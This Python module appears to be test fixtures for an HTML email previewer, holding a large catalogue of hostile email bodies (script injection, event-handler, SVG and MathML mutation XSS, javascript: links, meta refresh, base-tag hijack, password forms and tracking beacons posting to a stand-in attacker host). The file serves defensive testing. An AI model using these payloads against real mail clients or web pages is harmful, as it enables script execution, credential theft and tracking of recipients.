"""HTML of hostile emails. A preview must run no script of it, send no request to a host, and stay in its frame.

EVIL stands for a host of the attacker's, RUN for a script that shows it ran in every way it can.
"""

from __future__ import annotations

RUN = (
    "document.title='owned';console.error('owned');new Image().src='EVIL/ran';fetch('EVIL/ran');"
    "try{top.document.title='owned'}catch(e){};try{top.location='EVIL/top'}catch(e){};alert('owned')"
)

XSS_BODIES = {
    "script": "<script>RUN</script>",
    "script from elsewhere": "<script src=EVIL/a.js></script>",
    "module and import map": (
        '<script type=importmap>{"imports":{"a":"EVIL/a.js"}}</script><script type=module>import "a"</script>'
    ),
    "script in odd case, never closed": "<ScRiPt\n>RUN//",
    "script after broken comments": "<!--><script>RUN</script>--><!-- --!><script>RUN</script>",
    "script out of a title and a textarea": ("<title></title><textarea></textarea></title></textarea><script>RUN</script>"),
    "script out of the frame itself": "</iframe></body></html><script>RUN</script>",
    "noscript that holds markup": '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
    "template": ("<template><script>RUN</script></template><template shadowrootmode=open><script>RUN</script></template>"),
    "image that fails": '<img src=x onerror="RUN">',
    "image that loads": "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=' onload=\"RUN\">",
    "image and its sets": "<picture><source srcset=EVIL/a.png><img src=EVIL/b.png srcset='EVIL/c.png 2x'></picture>",
    "tracking pixel": "<img src='EVIL/pixel?who=customer' width=1 height=1 loading=eager fetchpriority=high>",
    "input as an image": '<input type=image src=EVIL/a.png autofocus onfocus="RUN">',
    "body with handlers": '<body onload="RUN" onpageshow="RUN" onfocus="RUN" background=EVIL/a.png>',
    "details that toggles": '<details open ontoggle="RUN"><summary>x</summary></details>',
    "marquee and animation": (
        '<marquee onstart="RUN">x</marquee><style>@keyframes x{}</style><b style=\'animation:x 1s\' onanimationstart="RUN">x</b>'
    ),
    "audio and video": (
        '<video autoplay src=EVIL/a.mp4 poster=EVIL/p.png onerror="RUN"></video>'
        '<audio autoplay src=EVIL/a.mp3 onerror="RUN"></audio><video><track default src=EVIL/t.vtt></video>'
    ),
    "svg with handlers": '<svg onload="RUN"><animate onbegin="RUN" attributeName=x dur=1s /></svg>',
    "svg script": "<svg><script>RUN</script><script href=EVIL/a.js /></svg>",
    "svg that loads": "<svg><image href=EVIL/a.png /><use href='EVIL/a.svg#x' /><feImage href=EVIL/b.png /></svg>",
    "svg link set by animation": (
        "<svg><a><animate attributeName=href values='javascript:RUN' /><text x=20 y=20>click</text></a></svg>"
    ),
    "svg foreign object": "<svg><foreignObject><iframe src=EVIL/f></iframe><script>RUN</script></foreignObject></svg>",
    "mathml that mutates": ("<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=RUN&gt;'>"),
    "mathml link": "<math href='javascript:RUN'><mi xlink:href='javascript:RUN'>click</mi></math>",
    "frame": "<iframe src=EVIL/f></iframe><frameset><frame src=EVIL/g></frameset>",
    "frame with its own document": "<iframe srcdoc='<script>RUN</script><img src=EVIL/a.png>'></iframe>",
    "frame of its own document, hidden by entities": (
        "<iframe srcdoc='&lt;link rel=preconnect href=EVIL&gt;&lt;img src=EVIL/a.png&gt;'></iframe>"
    ),
    "frame of a javascript link": (
        "<iframe src='javascript:RUN'></iframe><iframe src='data:text/html,<script>RUN</script>'></iframe>"
    ),
    "object and embed": (
        "<object data=EVIL/o></object><embed src=EVIL/e><applet code=EVIL/c></applet>"
        "<object data='data:text/html,<script>RUN</script>'>"
    ),
    "refresh": "<meta http-equiv=refresh content='0;url=EVIL/refresh'>",
    "refresh to a script": (
        "<meta http-equiv=refresh content='0;url=javascript:RUN'>"
        "<meta http-equiv=refresh content='0;url=data:text/html,<script>RUN</script>'>"
    ),
    "a policy and cookies of its own": (
        "<meta http-equiv=Content-Security-Policy content=\"default-src *; script-src * 'unsafe-inline'\">"
        "<meta http-equiv=Set-Cookie content='a=b'><script>RUN</script>"
    ),
    "base": "<base href=EVIL/ target=_top><img src=a.png><a href=x>click</a><script src=a.js></script>",
    "form that leaves": (
        "<form action=EVIL/form target=_top id=f><input name=password autofocus><button>click</button></form>"
        "<button form=f formaction=EVIL/b>x</button>"
    ),
    "links to scripts": (
        "<a href='javascript:RUN'>click</a><a href='JaVa&#10;ScRiPt:RUN'>click</a><a href='\x01javascript:RUN'>click</a>"
    ),
    "links within the frame": (
        "<a href=EVIL/self>click</a><map name=m><area href=EVIL/area shape=default></map><img usemap=#m alt=click>"
    ),
    "links to the outermost window": (
        "<a href=EVIL/top target=_top ping=EVIL/ping>click</a><a href=EVIL/new target=_blank>click</a>"
    ),
    "links made by animations": (
        "<svg><a><set attributeName=href to=EVIL/set /><text y=20>click</text></a>"
        "<a><animate attributeName='&#104;ref' values='EVIL/a;EVIL/b' fill=freeze /><text y=40>click</text></a>"
        "<a><SET attributeName=xlink:href to=EVIL/xlink /><text y=60>click</text></a></svg>"
    ),
    "link hints": (
        "<link rel=preconnect href=EVIL><LINK\trel=dns-prefetch href=EVIL>"
        "<link rel=preload as=image href=EVIL/p.png><link rel=prefetch href=EVIL/f>"
        "<link rel=icon href=EVIL/i.ico><link rel=manifest href=EVIL/m>"
        "<link rel=modulepreload href=EVIL/m.js>"
    ),
    "stylesheets": "<link rel=stylesheet href=EVIL/x.css><style>@import url(EVIL/y.css);@import 'EVIL/z.css';</style>",
    "pictures and fonts in styles": (
        "<style>body{background:url(EVIL/a.png)} p::after{content:url(EVIL/b.png)} "
        "b{cursor:url(EVIL/c.cur),auto}@font-face{font-family:x;src:url(EVIL/x.woff)} *{font-family:x} "
        "li{list-style:url(EVIL/l.png)}</style><ul><li>x</ul><p>x</p>"
        "<p style='background-image:image-set(\"EVIL/s.png\" 1x);mask:url(EVIL/m.svg#x)'>x</p>"
    ),
    "what scripts of old did": (
        "<p style='width:expression(RUN);behavior:url(EVIL/b.htc);-moz-binding:url(EVIL/x.xml#x)'>x</p>"
        "<img dynsrc=EVIL/d lowsrc=EVIL/l>"
    ),
    "tricks with characters": (
        "<img/src='x'/onerror='RUN'><svg\x0conload=RUN>"
        "<\x00script>RUN</script>＜script＞RUN＜/script＞\u202e<sıcript>RUN</script>+ADw-script+AD4-RUN+ADw-/script+AD4-"
    ),
    "speculation rules": '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["EVIL/s"]}]}</script>',
}


def body_of(kind: str, evil: str) -> str:
    """The HTML of one of XSS_BODIES, with a word that shows that it was rendered."""
    return "<p>drawn</p>" + XSS_BODIES[kind].replace("RUN", RUN).replace("EVIL", evil)
